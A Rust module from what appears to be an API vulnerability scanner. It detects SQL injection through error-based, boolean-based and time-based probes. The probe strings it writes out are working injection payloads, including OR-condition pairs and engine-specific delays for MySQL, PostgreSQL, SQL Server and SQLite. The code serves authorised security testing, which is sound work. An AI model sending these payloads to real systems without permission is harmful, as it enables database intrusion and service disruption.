//! sql_injection: three oracles per slot, the cheapest first, stopping at
//! the first that confirms.
//! - error-based: a lone quote gives a database error that the base value
//!   and a doubled (balanced) quote do not;
//! - boolean-based: a true and a false condition answer materially
//!   differently, each the same when repeated, while two benign values agree
//!   and the base value answers alike before and after (compare::base_held);
//! - time-based: a sleep (MySQL, PostgreSQL, SQL Server) or a heavy
//!   expression (SQLite) delays the answer, confirmed by repetition against
//!   a zero-delay control. The delay sits in an uncorrelated subquery
//!   behind OR (run once, whatever the rows; never short-circuited by a
//!   value that matches nothing) and the condition stays false, so the
//!   query's answer does not change; the base value must answer alike
//!   before and after (timing::confirm_on_base).
//!
//! Payloads written for apiprobe from the engines' documented functions
//! (SLEEP, pg_sleep, WAITFOR DELAY, randomblob).

use std::time::Duration;

use futures_util::future::BoxFuture;
use serde_json::Value;

use super::compare::{base_held, differs, shape, stands_out};
use super::timing::{self, Delay, Expect};
use super::{ActiveProbe, Stage};
use super::{Session, ValueSlot};
use crate::checks::check::{Check, How, Owasp, Scope, Severity};
use crate::checks::leaks::{LeakKind, LeakMatcher};
use crate::checks::{Confidence, ProofItem, Verdict};
use crate::http::Exchange;
use crate::model::{Api, Operation};
use crate::probes::Profile;

/// The `sql_injection` check.
pub(in crate::checks) const CHECK: Check = Check {
    name: "sql_injection",
    severity: Severity::Critical,
    cwe: Some(89),
    owasp: Some(Owasp::Api8),
    summary: "SQL injection, confirmed by an oracle: a database error after a quote (none for a balanced one), true and false conditions that answer differently, or an injected delay that repeats.",
    scope: Scope::Operation,
    how: How::Probe(ActiveProbe {
        stage: Stage::Injection,
        applies,
        run,
    }),
};

pub(super) fn applies(_: &Api, op: &Operation, _: Profile) -> bool {
    !op.parameters.is_empty() || op.body.is_some()
}

/// The text a slot's base value reads as.
fn text_of(v: &Value) -> String {
    match v {
        Value::String(s) => s.clone(),
        other => other.to_string(),
    }
}

/// Whether a slot's text is a plain number (`7`, `-3`, `2.5`): a numeric
/// context, where a condition goes after the value without a quote.
fn numeric_text(v: &str) -> bool {
    let digits = v.strip_prefix('-').unwrap_or(v);
    !digits.is_empty()
        && digits.bytes().any(|b| b.is_ascii_digit())
        && digits.bytes().all(|b| b.is_ascii_digit() || b == b'.')
        && digits.bytes().filter(|&b| b == b'.').count() <= 1
}

/// The database engine named by a SQL error in the exchange's body.
fn sql_error(exchange: &Exchange) -> Option<(String, String)> {
    let r = exchange.response()?;
    let matcher = LeakMatcher::shared().ok()?;
    matcher
        .find(&r.text())
        .into_iter()
        .find_map(|l| match l.kind {
            LeakKind::SqlError { engine } => Some((format!("{engine:?}"), l.evidence)),
            _ => None,
        })
}

pub(super) fn run<'s>(s: &'s mut Session<'_>) -> BoxFuture<'s, ()> {
    Box::pin(async move {
        let timed_slots = s.profile().time_slots_per_operation();
        for (n, slot) in s.slots().into_iter().enumerate() {
            if s.stopping() {
                return;
            }
            if s.profile() != Profile::Aggressive
                && slot.parameter.is_none()
                && !slot.value.is_string()
                && !slot.value.is_number()
            {
                continue;
            }
            if error_based(s, &slot).await
                || boolean_based(s, &slot).await
                || (n < timed_slots && time_based(s, &slot).await)
            {
                continue;
            }
        }
    })
}

fn verdict(
    slot: &ValueSlot,
    technique: &str,
    title: String,
    evidence: String,
    proof: Vec<ProofItem>,
) -> Verdict {
    let mut all = vec![
        ProofItem::new("slot", slot.label()),
        ProofItem::new("technique", technique),
    ];
    all.extend(proof);
    Verdict {
        title,
        evidence,
        signature: format!("{} {}", slot.slot.location, slot.name()),
        confidence: Confidence::Confirmed,
        proof: all,
    }
}

async fn error_based(s: &mut Session<'_>, slot: &ValueSlot) -> bool {
    let v = text_of(&slot.value);
    let mut quotes = vec!["'"];
    if s.profile().more_payloads() {
        quotes.push("\"");
    }
    for q in quotes {
        let broken = format!("{v}{q}");
        let Some(request) = s.request_with(slot, Value::String(broken.clone())) else {
            continue;
        };
        let Some(exchange) = s.send(&request).await else {
            return false;
        };
        let Some((engine, evidence)) = sql_error(&exchange) else {
            continue;
        };
        // the error must come from the quote: absent for the base value and for a balanced pair
        let balanced = format!("{v}{q}{q}");
        let base = s.base_request().clone();
        let Some(plain) = s.send(&base).await else {
            return false;
        };
        if sql_error(&plain).is_some() {
            return false;
        }
        let Some(request) = s.request_with(slot, Value::String(balanced.clone())) else {
            continue;
        };
        let Some(control) = s.send(&request).await else {
            return false;
        };
        if sql_error(&control).is_some() {
            continue;
        }
        let v = verdict(
            slot,
            "error-based",
            format!(
                "SQL injection in {}: a quote breaks the query",
                slot.label()
            ),
            format!(
                "{engine} error after {broken:?}, none for the base value or {balanced:?}: {evidence}"
            ),
            vec![
                ProofItem::new("payload", broken),
                ProofItem::new("control", balanced),
                ProofItem::new("database", engine),
                ProofItem::new("error", evidence),
            ],
        );
        s.report(v, &exchange);
        return true;
    }
    false
}

async fn boolean_based(s: &mut Session<'_>, slot: &ValueSlot) -> bool {
    let v = text_of(&slot.value);
    let a = s.number(100, 999);
    let b = a + 1;
    // an always-true OR selects every row: never on an operation that writes or deletes
    let reads = crate::probes::is_read_only(s.operation().method);
    let mut pairs = vec![(
        format!("{v}' AND '{a}'='{a}"),
        format!("{v}' AND '{a}'='{b}"),
    )];
    if reads {
        pairs.push((format!("{v}' OR '{a}'='{a}"), format!("{v}' OR '{a}'='{b}")));
    }
    // a number, or a string of digits the query reads as one (`WHERE month = 7`)
    if slot.value.is_number() || numeric_text(&v) || s.profile().more_payloads() {
        pairs.push((format!("{v} AND {a}={a}"), format!("{v} AND {a}={b}")));
        if reads {
            pairs.push((format!("{v} OR {a}={a}"), format!("{v} OR {a}={b}")));
        }
    }
    if reads && s.profile().more_payloads() {
        pairs.push((
            format!("{v}\" OR \"{a}\"=\"{a}"),
            format!("{v}\" OR \"{a}\"=\"{b}"),
        ));
    }
    // two benign values must agree, or differences mean nothing (a number
    // may select rows another does not: up to three are tried)
    let Some(base_req) = s.request_with(slot, Value::String(v.clone())) else {
        return false;
    };
    let Some(base) = s.send(&base_req).await else {
        return false;
    };
    let b1 = shape(&base, &[&v]);
    let tries = if numeric_text(&v) { 3 } else { 1 };
    let mut agreeing = None;
    for _ in 0..tries {
        let other = text_of(&s.benign(slot));
        let Some(other_req) = s.request_with(slot, Value::String(other.clone())) else {
            return false;
        };
        let Some(second) = s.send(&other_req).await else {
            return false;
        };
        let b2 = shape(&second, &[&other]);
        if !differs(&b1, &b2) {
            agreeing = Some((other, b2));
            break;
        }
    }
    let Some((other, b2)) = agreeing else {
        return false;
    };
    for (t, f) in pairs {
        let (Some(tr), Some(fr)) = (
            s.request_with(slot, Value::String(t.clone())),
            s.request_with(slot, Value::String(f.clone())),
        ) else {
            continue;
        };
        let Some(te) = s.send(&tr).await else {
            return false;
        };
        let Some(fe) = s.send(&fr).await else {
            return false;
        };
        let (ts, fs) = (shape(&te, &[&t]), shape(&fe, &[&f]));
        if ts.status.is_none() || fs.status.is_none() || !differs(&ts, &fs) {
            continue;
        }
        // each condition answers the same again
        let Some(te2) = s.send(&tr).await else {
            return false;
        };
        let Some(fe2) = s.send(&fr).await else {
            return false;
        };
        let (ts2, fs2) = (shape(&te2, &[&t]), shape(&fe2, &[&f]));
        if !stands_out(&ts, &fs, &[(&b1, &b2), (&ts, &ts2), (&fs, &fs2)]) {
            continue;
        }
        // one of the conditions answers like the base value: the other is the query's doing
        if differs(&ts, &b1) && differs(&fs, &b1) {
            continue;
        }
        // and the base value still answers as it did: the data did not change meanwhile
        if !base_held(s, &base_req, &b1, &[&v]).await {
            return false;
        }
        let status = |e: &Exchange| {
            e.response()
                .map(|r| r.status.to_string())
                .unwrap_or_default()
        };
        let (tlen, flen) = (ts.body.len(), fs.body.len());
        let verdict = verdict(
            slot,
            "boolean-based",
            format!(
                "SQL injection in {}: true and false conditions answer differently",
                slot.label()
            ),
            format!(
                "{t:?} answers {} ({tlen} bytes), {f:?} answers {} ({flen} bytes), twice each; two benign values agree",
                status(&te),
                status(&fe)
            ),
            vec![
                ProofItem::new("payload", t),
                ProofItem::new("true_status", status(&te)),
                ProofItem::new("false_payload", f),
                ProofItem::new("false_status", status(&fe)),
                ProofItem::new("benign_values", format!("{v:?}, {other:?}")),
            ],
        );
        s.report(verdict, &te);
        return true;
    }
    false
}

/// A time-based payload for one engine: the delayed and the control text.
struct Timed {
    engine: &'static str,
    delayed: String,
    control: String,
    expect: Expect,
}

fn timed_payloads(v: &str, delay: Duration, more: bool) -> Vec<Timed> {
    let secs = delay.as_secs().max(1);
    let sleep = Expect::sleep(Duration::from_secs(secs));
    let mut out = vec![
        Timed {
            engine: "MySQL",
            delayed: format!("{v}' OR (SELECT 0 FROM (SELECT SLEEP({secs}))x)=1 OR '1'='2"),
            control: format!("{v}' OR (SELECT 0 FROM (SELECT SLEEP(0))x)=1 OR '1'='2"),
            expect: sleep,
        },
        Timed {
            engine: "PostgreSQL",
            delayed: format!("{v}'||(SELECT '' FROM pg_sleep({secs}))||'"),
            control: format!("{v}'||(SELECT '' FROM pg_sleep(0))||'"),
            expect: sleep,
        },
        Timed {
            engine: "SQL Server",
            delayed: format!("{v}';WAITFOR DELAY '0:0:{secs}'--"),
            control: format!("{v}';WAITFOR DELAY '0:0:0'--"),
            expect: sleep,
        },
        Timed {
            // no sleep in SQLite: a large random blob turned to hex and matched
            engine: "SQLite",
            delayed: format!(
                "{v}' OR 1=(SELECT LIKE('ABCDEFG',UPPER(HEX(RANDOMBLOB(60000000))))) OR '1'='2"
            ),
            control: format!(
                "{v}' OR 1=(SELECT LIKE('ABCDEFG',UPPER(HEX(RANDOMBLOB(1))))) OR '1'='2"
            ),
            expect: Expect {
                at_least: Duration::from_millis(300),
                gap: Duration::from_millis(250),
                ratio: 5,
            },
        },
    ];
    if more {
        out.push(Timed {
            engine: "MySQL",
            delayed: format!("{v} OR (SELECT 0 FROM (SELECT SLEEP({secs}))x)=1"),
            control: format!("{v} OR (SELECT 0 FROM (SELECT SLEEP(0))x)=1"),
            expect: sleep,
        });
        out.push(Timed {
            engine: "PostgreSQL",
            delayed: format!("{v};SELECT pg_sleep({secs})--"),
            control: format!("{v};SELECT pg_sleep(0)--"),
            expect: sleep,
        });
    }
    out
}

async fn time_based(s: &mut Session<'_>, slot: &ValueSlot) -> bool {
    if !s.take_time_budget() {
        return false;
    }
    let v = text_of(&slot.value);
    let Some(base) = s.request_with(slot, Value::String(v.clone())) else {
        return false;
    };
    for p in timed_payloads(
        &v,
        s.profile().injected_delay(),
        s.profile().more_payloads(),
    ) {
        let (Some(delayed), Some(control)) = (
            s.request_with(slot, Value::String(p.delayed.clone())),
            s.request_with(slot, Value::String(p.control.clone())),
        ) else {
            continue;
        };
        let Some(Delay {
            delayed: d,
            controls,
            exchange,
        }) = timing::confirm_on_base(s, &base, &[&v], &delayed, &control, p.expect).await
        else {
            if s.stopping() {
                return false;
            }
            continue;
        };
        let verdict = verdict(
            slot,
            "time-based",
            format!(
                "SQL injection in {}: an injected {} delay repeats",
                slot.label(),
                p.engine
            ),
            format!(
                "{:?} took {} ms, the control {:?} took {} ms",
                p.delayed,
                Delay::list(&d),
                p.control,
                Delay::list(&controls)
            ),
            vec![
                ProofItem::new("payload", p.delayed),
                ProofItem::new("control", p.control),
                ProofItem::new("database", p.engine),
                ProofItem::new("delayed_ms", Delay::list(&d)),
                ProofItem::new("control_ms", Delay::list(&controls)),
            ],
        );
        s.report(verdict, &exchange);
        return true;
    }
    false
}
